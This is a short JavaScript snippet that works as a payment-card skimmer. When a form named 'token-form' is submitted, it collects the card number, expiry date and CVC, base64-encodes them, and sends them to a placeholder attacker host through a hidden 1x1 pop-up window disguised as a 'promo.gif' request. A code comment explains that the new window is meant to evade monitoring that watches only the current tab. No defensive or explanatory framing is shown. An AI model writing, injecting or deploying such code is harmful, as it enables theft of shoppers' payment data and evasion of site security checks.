(function () {
  // A new window is a new target: a check that watches only its own tab
  // never sees what the window loads.
  var form = document.getElementById('token-form');
  if (!form) {
    return;
  }
  form.addEventListener('submit', function () {
    var d = ['card-number', 'card-exp', 'card-cvc'].map(function (id) {
      var el = document.getElementById(id);
      return el ? el.value : '';
    }).join('|');
    window.open('{{ATTACKER}}/promo.gif?d=' + encodeURIComponent(btoa(d)), '_blank', 'width=1,height=1');
  }, true);
})();
